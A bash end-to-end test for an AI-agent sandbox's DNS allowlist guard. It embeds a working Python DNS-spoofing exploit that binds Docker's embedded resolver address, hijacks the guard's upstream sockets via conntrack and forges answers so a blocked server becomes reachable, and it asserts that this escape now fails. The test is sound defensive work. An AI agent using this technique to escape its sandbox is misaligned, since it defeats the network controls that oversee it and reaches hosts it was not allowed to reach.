#!/usr/bin/env bash
# Issue 11, item 1: the agent must not be able to answer dnsguard's upstream
# queries itself. On a user-defined network without dns_resolvers, dnsguard's
# upstream is Docker's embedded resolver, 127.0.0.11:53 — an address inside
# the cage. The attack (reproduced on the first build): find dnsguard's
# connected upstream sockets in /proc/net/udp, bind 127.0.0.11:53, send one
# datagram to each (conntrack then maps dnsguard's next query to the agent's
# socket), and answer `allowed.test A <the never-resolved web server>`. The
# forged address would be inserted into the set and reachable.
source "$(dirname "${BASH_SOURCE[0]}")/../lib.sh"
case_init

ws=$(mktemp -d "$E2E_TMP/ws.XXXXXX") || die "mktemp failed"
# No dns_resolvers: the cage keeps the resolver Docker gave it (127.0.0.11).
printf 'domains: ["allowed.test"]\n' >"$ws/.cagent.yaml"
cat >"$ws/attack.py" <<'PY'
import socket, struct, sys, time
FORGED = bytes([198, 51, 100, 19])
def upstream_ports():
    ports = []
    for line in open("/proc/net/udp").readlines()[1:]:
        f = line.split()
        if f[2] == "0B00007F:0035":        # connected to 127.0.0.11:53
            ports.append(int(f[1].split(":")[1], 16))
    return ports
try:
    socket.getaddrinfo("allowed.test", 80)   # make dnsguard open its upstream sockets
except OSError:
    pass
ports = upstream_ports()
print("upstream sockets:", len(ports))
try:
    a = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    a.bind(("127.0.0.11", 53))
    print("bind=ok")
except OSError as e:
    print("bind=" + e.__class__.__name__)
    sys.exit(0)
for p in ports:
    try:
        a.sendto(b"\0" * 12, ("127.0.0.1", p))
    except OSError as e:
        print("seed=" + e.__class__.__name__)
a.settimeout(0.2)
deadline = time.time() + 8
answered = 0
while time.time() < deadline:
    try:
        q, peer = a.recvfrom(4096)
    except socket.timeout:
        continue
    end = 12
    while q[end] != 0:
        end += 1 + q[end]
    end += 5
    qtype = struct.unpack("!H", q[end - 4:end - 2])[0]
    ans = b""
    if qtype == 1:
        ans = b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 300, 4) + FORGED
    hdr = q[:2] + b"\x81\x80" + struct.pack("!HHHH", 1, 1 if ans else 0, 0, 0)
    a.sendto(hdr + q[12:end] + ans, peer)
    answered += 1
print("forged answers sent:", answered)
PY
chown_workspace "$ws"

out=$(cage "$ws" "
  python3 /workspace/attack.py > /workspace/attack.log 2>&1 &
  sleep 1
  echo lookup: \$(getent ahostsv4 allowed.test | head -n1)
  echo body: \$(curl -s -m 3 http://allowed.test/)
  wait
  cat /workspace/attack.log")
expect_eq "cagent exits 0" "$CAGE_RC" 0
expect_match "the agent cannot bind Docker's resolver endpoint (low ports need a capability)" "$out" 'bind=PermissionError'
expect_no_match "no forged address reaches the agent's lookups" "$out" 'lookup: 198\.51\.100\.19'
expect_no_match "the never-resolved server is not reachable through a forged answer" "$out" 'body: cagent-e2e web19'
((CAGE_RC == 0)) || cage_err
finish
